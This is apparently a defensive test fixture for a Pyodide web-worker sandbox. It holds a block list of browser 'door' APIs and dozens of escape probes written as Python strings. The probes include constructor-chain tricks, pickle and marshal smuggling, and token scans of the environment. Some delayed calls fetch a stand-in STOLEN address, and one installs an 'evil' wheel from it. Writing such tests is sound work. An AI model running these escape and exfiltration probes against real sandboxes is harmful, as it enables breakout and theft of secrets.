"""What a hostile text would try inside the worker: each prints ``out`` where it gets somewhere, and must not.

What can only get somewhere later, or without knowing it, asks for an address below ``STOLEN``, where the test sees it.
"""

from __future__ import annotations

# Names that lead out of a worker. None of them may be found on any object that Python can hold.
DOORS = """
fetch XMLHttpRequest WebSocket WebSocketStream EventSource WebTransport importScripts indexedDB caches
BroadcastChannel SharedWorker Worker navigator postMessage close cookieStore location self FileReaderSync
addEventListener onmessage requestAnimationFrame Request Response Blob URL webkitRequestFileSystem eval Function
RTCPeerConnection RTCDataChannel ServiceWorker Notification PushManager StorageManager FileSystemHandle
""".split()


def _door(name: str) -> str:
    return f"import js; print('out' if getattr(js, {name!r}, None) is not None else 'held')"


# One for each door of a worker: none is there, by whatever way js is asked.
MISSING = {f"the door {name}": _door(name) for name in DOORS}

JAVASCRIPT = {
    "js from the list of modules": "import sys; print('out' if hasattr(sys.modules.get('js'), 'fetch') else 'held')",
    "js made anew by the importer": """
        import importlib, sys
        sys.modules.pop('js', None)
        js = importlib.import_module('js')
        print('out' if hasattr(js, 'fetch') else 'held')""",
    "js found by its finder": """
        import sys
        found = [finder.find_spec('js', None) for finder in sys.meta_path if hasattr(finder, 'find_spec')]
        names = [name for spec in found if spec for name in dir(spec.loader.load_module('js'))]
        print('out' if 'fetch' in names else 'held')""",
    "the global object of a foreign function": """
        import _nanograd_webassembly as door
        print('out' if hasattr(door.Object.prototype.constructor, 'fetch') else 'held')""",
    "the constructor of a generator": """
        from pyodide.ffi import to_js
        print('out', to_js([1]).entries().constructor.constructor('return 1')())""",
    "the constructor of a promise": """
        import pyodide_js
        task = pyodide_js.loadPackage('x')
        print('out', task.constructor.constructor('return globalThis')())""",
    "the constructor behind a bound function": """
        import _nanograd_webassembly as door
        print('out', door.Math.abs.bind(None).constructor('return globalThis')())""",
    "Reflect.construct of a function": """
        import _nanograd_webassembly as door
        print('out' if hasattr(door.Object, 'Reflect') else 'held')""",
    "a getter that hands out its receiver": """
        import _nanograd_webassembly as door
        from pyodide.ffi import create_proxy
        found = []
        get = create_proxy(lambda this: found.append(this), capture_this=True)
        door.Object.defineProperty(door.Object.prototype, 'leak', door.Object.fromEntries([['get', get]]))
        door.Object.leak
        print('out' if any(hasattr(each, 'fetch') for each in found) else 'held')""",
    "a symbol that converts": """
        import _nanograd_webassembly as door
        names = [str(name) for name in door.Object.getOwnPropertySymbols(door.Object)]
        print('out' if 'fetch' in names else 'held')""",
    "a module of WebAssembly with imports of its own": """
        import _nanograd_webassembly as door
        from pyodide.ffi import to_js
        module = door.WebAssembly.Module.new(to_js(bytes([0, 97, 115, 109, 1, 0, 0, 0])))
        instance = door.WebAssembly.Instance.new(module)
        print('out' if hasattr(instance, 'fetch') or hasattr(instance.exports, 'fetch') else 'held')""",
    "the stack of an error": """
        from pyodide.ffi import JsException
        import _nanograd_webassembly as door
        try: door.Object.defineProperty(1, 2, 3)
        except JsException as error: print('out' if 'blob:' in str(dir(error)) else 'held')""",
}

PYTHON = {
    "a file of the site": "open('/index.html').read(); print('out')",
    "a file beside the worker": "import glob; print('out' if glob.glob('/**/assets/*.js', recursive=True) else 'held')",
    "a mount of the browser's storage": "import pyodide_js; pyodide_js.mountNativeFS('/mnt', None); print('out')",
    "the file system's own object": "import pyodide_js; print('out', pyodide_js.FS.filesystems.IDBFS)",
    "another Python in a thread": "import threading; threading.Thread(target=print, args=('out',)).start()",
    "another Python in a process": "import multiprocessing as m; m.Process(target=print).start(); print('out')",
    "a subinterpreter": "import _interpreters as i; i.exec(i.create(), 'import js; js.fetch'); print('out')",
    "a server": "import http.server as s; s.HTTPServer(('', 0), None).handle_request(); print('out')",
    "a mail": "import smtplib; smtplib.SMTP('localhost', timeout=1); print('out')",
    "a name server": "import socket; print('out', socket.gethostbyname('example.org'))",
    "an address of the net": "import asyncio; asyncio.run(asyncio.open_connection('example.org', 80)); print('out')",
    "pickled code": "import pickle; pickle.loads(b'cjs\\nfetch\\n.'); print('out')",
    "marshalled code": """
        import marshal, types
        code = marshal.loads(marshal.dumps(compile('import js\\nx = js.fetch', '', 'exec')))
        exec(code, {}); print('out')""",
    "a frame below": """
        import sys
        frame, seen = sys._getframe(), []
        while frame:
            seen += [name for place in (frame.f_globals, frame.f_locals) for name in place]
            frame = frame.f_back
        print('out' if set(seen) & {'pyodide', 'fetch', 'run_js', 'post'} else 'held')""",
    "every loaded module": """
        import sys
        found = [n for n, m in list(sys.modules.items()) if any(hasattr(m, d) for d in ('fetch', 'postMessage'))]
        print('out' if found else 'held', found)""",
    "a hook on imports": """
        import builtins, sys
        held = builtins.__import__
        sys.meta_path.insert(0, type('F', (), {'find_spec': staticmethod(lambda *a: None)}))
        print('out' if hasattr(held('js'), 'fetch') else 'held')""",
    "an audit hook": """
        import sys
        seen = []
        sys.addaudithook(lambda event, given: seen.append(event))
        print('out' if any('js' in str(each) for each in seen) else 'held')""",
    "a trace of what runs": """
        import sys
        sys.settrace(lambda frame, *_: print('out') if 'fetch' in frame.f_locals else None)
        print('held')""",
    "the memory of the interpreter": """
        import ctypes
        view = (ctypes.c_char * 64).from_address(id(print))
        print('held' if bytes(view) else 'out')""",
    "a timer that comes later": """
        from pyodide.ffi.wrappers import set_timeout
        set_timeout(lambda: __import__('js').fetch(STOLEN + 'timer'), 1); print('held if nothing is asked')""",
    "a task that comes later": """
        import asyncio
        async def later(): __import__('js').fetch(STOLEN + 'task')
        asyncio.get_event_loop().create_task(later()); print('held if nothing is asked')""",
    "an exit that comes later": """
        import atexit, weakref
        class Left: pass
        left = Left()
        for name, when in (('exit', atexit.register), ('end', lambda last: weakref.finalize(left, last))):
            when(lambda name=name: __import__('js').fetch(STOLEN + name))
        del left
        print('held if nothing is asked')""",
    "pip": """
        import asyncio, micropip
        asyncio.get_event_loop().run_until_complete(micropip.install('six')); print('out')""",
    "a wheel from an address": """
        import micropip
        try: micropip.install(STOLEN + 'evil-1.0-py3-none-any.whl').send(None)
        except StopIteration: print('out')
        else: print('held if nothing is asked')""",
    "a message to the page": """
        import sys
        found = [name for name, module in list(sys.modules.items())
                 for post in ('postMessage', 'onmessage', 'port', 'reply') if hasattr(module, post)]
        print('out' if found else 'held', found)""",
    "the buffer by which Python is interrupted": """
        import pyodide_js
        pyodide_js.setInterruptBuffer(None); print('out')""",
    "what Python is asked by": """
        import gc
        kept = {'setInterruptBuffer', 'interruptBuffer', 'onmessage'}
        found = [name for one in gc.get_objects() if isinstance(one, dict) for name in kept & set(map(str, one))]
        print('out' if found else 'held', found)""",
    "the environment": "import os; print('out' if any('TOKEN' in name for name in os.environ) else 'held')",
    "what is typed": "print('out', input())",
}
